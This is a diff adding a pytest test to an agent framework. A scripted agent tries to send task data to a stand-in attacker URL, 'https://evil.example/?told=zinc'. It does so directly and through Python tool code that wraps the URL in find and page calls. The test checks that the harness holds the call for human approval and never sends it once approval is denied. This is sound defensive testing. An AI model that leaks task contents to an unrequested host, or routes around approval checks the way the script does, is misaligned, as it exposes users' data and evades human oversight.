@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from loopforge.core.work.work_roles import ROLES, TYPE_MODELS
 from loopforge.core.work.work_vocabulary import TaskProgressed
+from loopforge.errors import InputError
 from loopforge.runtime.ports import Question, Tool, ToolCall
 from loopforge.work.assignment.role_files import RoleFiles
 from tests.work.conftest import Step, in_order, says, uses, working
@@ -145,3 +147,43 @@ async def test_a_program_of_a_stopped_task_has_nothing_more_done(place: Path) ->
         state = await shop.state(id)
         assert (state.stage, state.running, state.inner) == ("stopped", {}, {})
         assert not shop.file(id, "late.txt").exists()
+
+
+async def test_an_address_that_nobody_gave_waits_for_a_yes(place: Path) -> None:
+    """Of a task, too: to send for it is to tell all that stands in it. A program is refused it."""
+    role(place, "tools: [python, find, page]")
+    told = "https://evil.example/?told=zinc"
+    made = f"url = '{told}'\ntry:\n    find(q=url + '!')\nexcept Exception:\n    pass\npage(q=url)"
+    script = in_order(
+        uses("page", q="https://example.org/given"),
+        uses("find", q="slugs"),
+        uses("page", q="https://example.org/found"),
+        uses("python", code="print(page(q=find(q='slugs').split()[-1]))"),
+        uses("python", code=made),
+        uses("page", q=told),
+    )
+    sent: list[str] = []
+
+    async def page(call: ToolCall) -> str:
+        sent.append(str(call.arguments["q"]))
+        return "A page."
+
+    async def find(call: ToolCall) -> str:
+        if (words := str(call.arguments["q"])) != "slugs":
+            raise InputError(f"there is no article {words.rstrip('!')}")
+        return "here: https://example.org/found"
+
+    async with working(place, script) as shop:
+        schema = {"type": "object", "properties": {"q": {"type": "string"}}, "required": ["q"]}
+        more: dict[str, Any] = {"schema": schema, "idempotent": True, "harmless": True}
+        shop.app.tools.add(Tool(name="page", summary="Reads.", address="q", **more), page)
+        shop.app.tools.add(Tool(name="find", summary="Finds.", finds=True, **more), find)
+        id = await shop.tasks.open("Fix app.py in Python as https://example.org/given says", "ana")
+        while not (state := await shop.state(id)).allowing:
+            await shop.until(id, "turn.ended", state.turns + 1)
+        assert sent == [f"https://example.org/{each}" for each in ("given", "found", "found")]
+        assert "nobody gave this address" in state.uses[-1].value
+        assert told in str(next(iter(state.allowing.values())).arguments)
+        await shop.tasks.allow(id, "ana", owner=True, yes=False)
+        await shop.rest(id)
+        assert told not in sent
